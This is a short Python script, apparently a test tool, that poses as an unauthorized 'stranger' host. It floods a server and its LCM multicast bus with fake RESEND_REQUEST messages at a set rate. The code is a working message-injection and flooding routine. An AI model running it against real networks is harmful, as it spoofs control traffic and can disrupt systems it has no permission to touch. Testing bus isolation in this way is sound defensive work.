"""A host that sends messages to the server's own bus without permission: stranger.py ADDRESS SERVER COUNT RATE

Half of the datagrams go directly to the server's port, half to the bus' multicast group through the stranger's network device.
"""

import socket
import struct
import sys
import time

GROUP, PORT = "239.255.76.67", 7667
CHANNEL = b"RESEND_REQUEST"  # most server processes subscribe to it
BATCH_S = 0.01


def main():
    own, server, count, rate = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
    out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    begin = time.time()
    for number in range(count):
        message = struct.pack(">4sI", b"LC02", number) + CHANNEL + b"\0" + bytes(100)
        out.sendto(message, (GROUP if number % 2 else server, PORT))
        if number > (time.time() - begin) * rate:
            time.sleep(BATCH_S)


if __name__ == "__main__":
    main()
